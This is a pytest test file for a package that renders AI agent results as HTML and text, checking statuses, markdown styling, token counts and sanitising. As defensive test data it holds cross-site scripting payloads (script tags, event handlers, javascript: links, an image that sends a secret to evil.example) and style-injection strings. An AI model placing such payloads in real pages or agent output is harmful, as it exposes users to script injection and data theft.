"""Static rendering of results (view/render.py): content, statuses, sanitising, text form."""

from __future__ import annotations

import sys
from html.parser import HTMLParser

import pytest

from agent_magics.core.result import AgentResult
from agent_magics.view.render import render_result_html, render_result_text

XSS = (
    "<script>alert(1)</script> <img src=x onerror=alert(2)> [click](javascript:alert(3)) "
    '<a href="javascript:alert(4)">a</a> ![exfil](https://evil.example/x.png?secret=1) '
    "<iframe src=https://evil.example></iframe> <svg onload=alert(5)> <style>*{}</style>"
)


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag in {"script", "img", "iframe", "svg", "style", "object", "embed", "link", "meta", "form"}:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            if name in {"href", "src", "action", "formaction"} and "javascript:" in (value or "").lower():
                self.problems.append(f"{tag}[{name}={value}]")


def html_problems(fragment: str) -> list[str]:
    """Dangerous tags and attributes in ``fragment`` (as a browser's HTML parser sees them)."""
    parser = _Collector()
    parser.feed(fragment)
    parser.close()
    return parser.problems


def message(text: str, item_id: str = "m1") -> dict:
    return {"type": "message", "id": item_id, "role": "assistant", "content": [{"type": "output_text", "text": text}]}


def full_result(**overrides) -> AgentResult:
    output = [
        message("Let me look that up."),
        {"type": "function_call", "name": "lookup", "arguments": '{"city": "Paris"}', "call_id": "c1"},
        {"type": "function_call_output", "call_id": "c1", "output": '{"temp": 21}'},
        {"type": "reasoning", "summary": [{"type": "summary_text", "text": "It is **warm**."}]},
        message("It is **21 °C** in Paris.", "m2"),
    ]
    values = dict(
        target="weather-agent",
        text="Let me look that up.\n\nIt is **21 °C** in Paris.",
        output=output,
        custom_outputs={"source": "station-7"},
        trace_id="tr-123",
        elapsed=2.5,
        interface="responses",
        via="client",
    )
    values.update(overrides)
    return AgentResult(**values)


def test_html_has_header_answer_tools_custom_outputs_and_trace_id() -> None:
    page = render_result_html(full_result())
    assert "weather-agent" in page and ">completed<" in page
    assert "2.5 s" in page and "47 chars" in page and "responses via client" in page
    assert "<strong>21 °C</strong>" in page  # markdown rendered
    assert page.index("Let me look that up.") < page.index("lookup") < page.index("21 °C")  # in order
    assert page.count("<details") == 3  # tool call (with its output), reasoning, custom outputs
    assert "&quot;temp&quot;: 21" in page and "&quot;city&quot;: &quot;Paris&quot;" in page
    assert "station-7" in page and "tr-123" in page
    assert "am-error" not in page
    assert html_problems(page) == []


def test_html_uses_inline_styles_only() -> None:
    page = render_result_html(full_result(status="failed", error="boom"))
    parser = _Collector()
    parser.feed(page)
    assert "style" not in parser.tags and "script" not in parser.tags and "link" not in parser.tags
    assert "http" not in page  # no external resources


@pytest.mark.parametrize(
    ("status", "error", "head"),
    [
        ("failed", "HTTP 500 from the endpoint", "Failed"),
        ("interrupted", None, "Interrupted"),
        ("incomplete", "max_output_tokens", "Incomplete"),
    ],
)
def test_unfinished_results_keep_the_partial_answer(status: str, error: str | None, head: str) -> None:
    result = AgentResult(
        target="ep", text="The first half", output=[message("The first half")], status=status, error=error
    )
    page = render_result_html(result)
    assert f">{status}<" in page and "am-error" in page and f"<strong>{head}</strong>" in page
    assert "partial answer kept (14 chars)" in page and "The first half" in page
    if error:
        assert error in page
    text = render_result_text(result)
    assert text.splitlines()[0] == f"[ep · {status} · 14 chars]"
    assert "partial answer kept" in text and "The first half" in text


def test_partial_answer_wording_is_not_repeated() -> None:
    error = "interrupted by the user; partial answer kept"
    result = AgentResult(target="ep", text="abc", output=[message("abc")], status="interrupted", error=error)
    assert render_result_html(result).count("partial answer kept") == 1
    assert render_result_text(result).count("partial answer kept") == 1


def test_failure_without_text_says_so() -> None:
    result = AgentResult(target="ep", text="", status="failed", error="endpoint not found")
    assert "no answer text arrived" in render_result_html(result)
    assert "no answer text arrived" in render_result_text(result)


def test_xss_everywhere_is_neutralised() -> None:
    result = AgentResult(
        target=f"ep{XSS}",
        text=XSS,
        output=[
            message(XSS),
            {"type": "function_call", "name": f"f{XSS}", "arguments": XSS, "call_id": "c"},
            {"type": "function_call_output", "call_id": "c", "output": XSS},
            {"type": "function_call_output", "call_id": "orphan", "output": [{"type": "text", "text": XSS}]},
            {"type": "reasoning", "summary": [{"type": "summary_text", "text": XSS}]},
            {"type": "mcp_call", "name": XSS},
        ],
        custom_outputs={XSS: XSS},
        trace_id=XSS,
        status="failed",
        error=XSS,
        interface=XSS,
    )
    page = render_result_html(result)
    assert html_problems(page) == []
    assert "evil.example" not in page.replace("https://evil.example", "")  # no image/iframe survives...
    assert "<img" not in page and "<iframe" not in page  # ...as markup (escaped text is fine)


def test_trace_dict_uses_trace_renderer_and_falls_back(monkeypatch: pytest.MonkeyPatch) -> None:
    trace = {"info": {"trace_id": "tr-9"}, "data": {"spans": [{"name": f"span{XSS}"}]}}
    result = full_result(trace_dict=trace, trace_id="tr-9")
    monkeypatch.setitem(sys.modules, "agent_magics.view.trace_html", None)  # import fails
    page = render_result_html(result)
    assert "tr-9" in page and "span&lt;script&gt;" in page and html_problems(page) == []
    assert "trace: tr-9 (1 spans)" in render_result_text(result)


def test_text_is_compact() -> None:
    text = render_result_text(full_result())
    assert text.splitlines() == [
        "[weather-agent · completed · 2.5 s · 47 chars · responses via client]",
        "Let me look that up.",
        '⚙ lookup({ "city": "Paris" }) → { "temp": 21 }',
        "(reasoning: It is **warm**.)",
        "It is **21 °C** in Paris.",
        'custom outputs: { "source": "station-7" }',
        "trace id: tr-123",
    ]


def test_text_answer_limit() -> None:
    long = "x" * 5000
    result = AgentResult(target="ep", text=long, output=[message(long)])
    text = render_result_text(result, max_answer_chars=100)
    assert "x" * 100 in text and "x" * 101 not in text
    assert "4,900 more characters" in text
    assert render_result_text(result).count("x") == 5000


def test_text_without_message_items_shows_the_text() -> None:
    result = AgentResult(target="ep", text="plain answer")
    assert "plain answer" in render_result_text(result)
    assert "plain answer" in render_result_html(result)


# -- code, tables, quotes; header numbers; the question asked -----------------------------------------
def test_code_blocks_are_highlighted_boxed_and_labelled() -> None:
    from agent_magics.view import markdown_style as style
    from agent_magics.view.sanitize import markdown_to_html

    out = markdown_to_html('```python\ndef f():\n    return "x"  # c\n```\n\nafter\n')
    assert f'<div style="{style.CODE_BOX}"><div style="{style.CODE_LABEL}">python</div>' in out
    assert f'<pre style="{style.CODE_PRE}"><code class="language-python" style="{style.CODE_INNER}">' in out
    for kind in ("keyword", "def", "string", "comment"):
        assert f'<span style="{style._TOKEN_STYLES[kind]}">' in out, kind
    assert "var(--jp-mirror-editor-keyword-color," in out  # the theme's colour, with a fallback
    plain = markdown_to_html("```no-such-language\n<b>x</b>\n```\n")
    assert "&lt;b&gt;x&lt;/b&gt;" in plain and "<span" not in plain  # unknown language: escaped, boxed
    assert "no-such-language</div>" in plain
    indented = markdown_to_html("para\n\n    code here\n")
    assert f'<pre style="{style.CODE_PRE}"><code style="{style.CODE_INNER}">code here' in indented


def test_tables_are_left_aligned_unless_the_markdown_says_otherwise() -> None:
    from agent_magics.view import markdown_style as style
    from agent_magics.view.sanitize import markdown_to_html

    out = markdown_to_html("| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quote\n")
    assert f'<table style="{style.TABLE}">' in out
    assert f'<th style="{style.HEAD_CELLS["left"]}">a</th>' in out
    assert f'<td style="{style.CELLS["left"]}">1</td>' in out
    assert f'<td style="{style.CELLS["right"]}">2</td>' in out
    assert f'<blockquote style="{style.QUOTE}">' in out


@pytest.mark.parametrize(
    "hostile",
    [
        '```python" style="position:fixed\nx\n```',
        '```" onmouseover="alert(1)\nx\n```',
        '<span style="position:fixed;top:0">over</span>',
        '<div style="background:url(https://evil.example/x)">x</div>',
        '`<span style="color:red">x</span>`',
    ],
)
def test_agent_text_cannot_set_a_style_or_break_out_of_the_label(hostile: str) -> None:
    from agent_magics.view import markdown_style as style
    from agent_magics.view.sanitize import markdown_to_html

    out = markdown_to_html(hostile)
    assert not html_problems(out)
    attributes = _Attributes()
    attributes.feed(out)
    styles = [value for name, value in attributes.found if name == "style"]
    assert all(value in style.STYLES for value in styles), styles
    assert not [name for name, _ in attributes.found if name.startswith("on")]


class _Attributes(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(name, value or "") for name, value in attrs]


def test_the_style_filter_drops_styles_that_are_not_ours() -> None:
    from agent_magics.view.sanitize import clean_html

    assert clean_html('<span style="position:fixed">x</span>') == "<span>x</span>"
    kept = '<span style="color:#ba2121;color:var(--jp-mirror-editor-string-color,#ba2121);">x</span>'
    assert clean_html(kept) == kept
    themed_only = '<span style="color:var(--jp-mirror-editor-string-color,#ba2121);">x</span>'  # no longer ours
    assert clean_html(themed_only) == "<span>x</span>"


def test_header_shows_tokens_first_token_rate_and_duration() -> None:
    result = full_result(
        request_info={"usage": {"input_tokens": 1234, "output_tokens": 300}},
        timings={"first_text": 0.5, "total": 3.5},
        elapsed=3.5,
    )
    assert result.usage == {"input_tokens": 1234, "output_tokens": 300, "total_tokens": 1534}
    assert result.tokens_per_second == pytest.approx(100.0)  # 300 tokens over the 3 s after the first
    html = render_result_html(result)
    assert ">1,234 in / 300 out tokens</span>" in html
    assert ">first token 0.5 s</span>" in html and ">100 tokens/s</span>" in html and ">3.5 s</span>" in html
    assert 'title="tokens the server counted (usage)' in html
    text = render_result_text(result)
    assert "1,234 in / 300 out tokens · first token 0.5 s · 100 tokens/s" in text.splitlines()[0]
    # a non-streamed answer (first text at the end): the rate is over the whole call
    whole = full_result(request_info={"usage": {"output_tokens": 50}}, timings={"first_text": 1.0, "total": 1.02})
    assert whole.tokens_per_second == pytest.approx(50 / 1.02)
    bare = full_result(request_info={}, timings={})
    assert bare.tokens_per_second is None and "tokens" not in render_result_html(bare).split("am-question")[0]


def test_the_question_sent_is_shown_collapsed_with_its_turn() -> None:
    first = full_result(
        input=[{"role": "system", "content": "Be brief."}, {"role": "user", "content": "What is <b>x</b>?"}]
    )
    html = render_result_html(first)
    assert (
        '<details class="am-question tex2jax_ignore mathjax_ignore"' in html
        and " open" not in html.split("am-question")[1][:200]
    )
    assert "What is &lt;b&gt;x&lt;/b&gt;?" in html and "turn" not in html.split("am-question")[1]
    assert html.index("am-question") < html.index("am-answer")  # above the answer
    later = full_result(
        input=[
            {"role": "user", "content": "First?"},
            {"type": "message", "role": "assistant", "content": [{"type": "output_text", "text": "One."}]},
            {"role": "user", "content": [{"type": "input_text", "text": "And then?"}]},
        ]
    )
    assert "asked · turn 2:</span> And then?" in render_result_html(later)
    assert render_result_text(later).splitlines()[0].endswith("· turn 2]")
